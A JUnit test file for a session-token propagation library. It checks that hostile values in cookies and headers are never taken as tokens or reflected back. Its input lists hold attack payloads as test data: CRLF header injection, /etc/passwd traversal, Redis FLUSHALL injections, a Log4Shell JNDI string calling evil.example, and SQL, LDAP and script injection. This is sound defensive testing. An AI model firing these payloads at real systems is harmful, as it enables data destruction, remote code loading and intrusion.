package io.mistsession.propagation;

import static org.assertj.core.api.Assertions.assertThat;

import io.mistsession.Exchange;
import io.mistsession.Propagator;
import io.mistsession.SessionToken;
import io.mistsession.test.FakeExchange;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What attackers write where a token should stand: it is no token in any place, and nothing of it is sent back. */
class HostileTokenTests {

    private static final String VALID = TestTokens.ONE.value();
    private static final String STEM = VALID.substring(0, 42);
    private static final String COOKIE = "mist_session";
    private static final String HEADER = HeaderPropagator.DEFAULT_NAME;

    private final Propagator cookies = CookiePropagator.of(CookieOptions.defaults());
    private final Propagator headers = HeaderPropagator.of(HEADER);

    private static Stream<String> hostile() {
        return Stream.of(sizes(), aliases(), controls(), scripts(), injections(), tokensOfOthers())
                .flatMap(values -> values);
    }

    private static Stream<String> sizes() {
        return Stream.of("", "A", STEM, VALID + "A", "A".repeat(8_192), "A".repeat(65_536), "A".repeat(1 << 20));
    }

    private static Stream<String> aliases() {
        return Stream.of(
                STEM + "+",
                STEM + "/",
                STEM + "=",
                VALID + "=",
                VALID + "==",
                STEM + "B",
                STEM + "F",
                "%41" + VALID.substring(1),
                "%2541" + VALID.substring(1),
                '"' + VALID + '"',
                "'" + VALID + "'",
                VALID + "," + VALID,
                VALID.substring(0, 16) + "." + VALID.substring(17));
    }

    private static Stream<String> controls() {
        return Stream.of(
                STEM + "\0",
                VALID + "\0",
                "\0" + VALID,
                STEM + "\r",
                VALID + "\r\nSet-Cookie: evil=1",
                VALID + "\n",
                VALID + "\u000b",
                VALID + "\u0085");
    }

    private static Stream<String> scripts() {
        return Stream.of(
                STEM + "é",
                STEM + "\u00c0\u0080",
                STEM + "\ud800",
                STEM + "\udc00",
                "\u202e" + VALID.substring(1),
                STEM + "０",
                STEM + "ı",
                STEM + "K",
                STEM + "ſ",
                "\ufeff" + VALID);
    }

    private static Stream<String> injections() {
        return Stream.of(
                "../../etc/passwd",
                "..%2f..%2fetc",
                "C:\\windows\\win.ini",
                "file:///etc/passwd",
                "*",
                "?",
                "[a-z]",
                "\\*",
                "\r\n*1\r\n$8\r\nFLUSHALL\r\n",
                "']] redis.call('FLUSHALL') --[[",
                "ARGV[1]",
                "${jndi:ldap://evil.example/a}",
                "#{7*7}",
                "' OR 1=1 --",
                "*)(uid=*",
                "<script>alert(1)</script>",
                "{\"id\":1}");
    }

    private static Stream<String> tokensOfOthers() {
        return Stream.of(
                "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
                "1b4e28ba-2fa1-11d2-883f-0016d3cca427",
                "0123456789ABCDEF0123456789ABCDEF",
                "s%3AabcDEF.signature",
                "null",
                "undefined");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void inACookieItIsNoToken(String hostile) {
        FakeExchange exchange = FakeExchange.https().header("Cookie", COOKIE + "=" + hostile);

        assertThat(tokens(cookies, exchange)).isEmpty();
        assertThat(cookies.extract(exchange)).isNotEmpty().allMatch(value -> value.length() <= 44);
        assertNothingComesBack(cookies, exchange, hostile);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void inAHeaderItIsNoToken(String hostile) {
        FakeExchange exchange = FakeExchange.https().header(HEADER, hostile);

        assertThat(tokens(headers, exchange)).isEmpty();
        assertNothingComesBack(headers, exchange, hostile);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void besideATokenItIsASecondValue(String hostile) {
        FakeExchange before =
                FakeExchange.https().header("Cookie", COOKIE + "=" + hostile + "; " + COOKIE + "=" + VALID);
        FakeExchange after =
                FakeExchange.https().header("Cookie", COOKIE + "=" + VALID + "; " + COOKIE + "=" + hostile);

        assertThat(cookies.extract(before)).hasSize(2);
        assertThat(cookies.extract(after)).hasSize(2);
    }

    @Test
    void aTokenInAnotherCaseIsAnotherToken() {
        FakeExchange exchange = FakeExchange.https().header(HEADER, VALID.toLowerCase(Locale.ROOT));

        assertThat(tokens(headers, exchange)).doesNotContain(TestTokens.ONE);
    }

    @Test
    void aTokenAnywhereElseIsIgnored() {
        FakeExchange exchange = FakeExchange.https()
                .header("Referer", "https://example.com/;jsessionid=" + VALID + "?" + COOKIE + "=" + VALID)
                .header("Authorization", "Bearer " + VALID)
                .header("Cookie2", COOKIE + "=" + VALID)
                .header("Cookie", "JSESSIONID=" + VALID + "; __Host-" + COOKIE + "=" + VALID);

        assertThat(cookies.extract(exchange)).isEmpty();
        assertThat(headers.extract(exchange)).isEmpty();
    }

    private static List<SessionToken> tokens(Propagator propagator, Exchange exchange) {
        return propagator.extract(exchange).stream()
                .flatMap(value -> SessionToken.parse(value).stream())
                .toList();
    }

    private static void assertNothingComesBack(Propagator propagator, FakeExchange exchange, String hostile) {
        propagator.inject(exchange, TestTokens.TWO, Duration.ofDays(1));

        String sent = exchange.responseHeaders("Set-Cookie").toString() + exchange.responseHeaders(HEADER);
        assertThat(sent).contains(TestTokens.TWO.value()).doesNotContain(VALID, "\r", "\n", "\0", "evil");
        if (hostile.length() > 16) {
            assertThat(sent).doesNotContain(hostile);
        }
    }
}
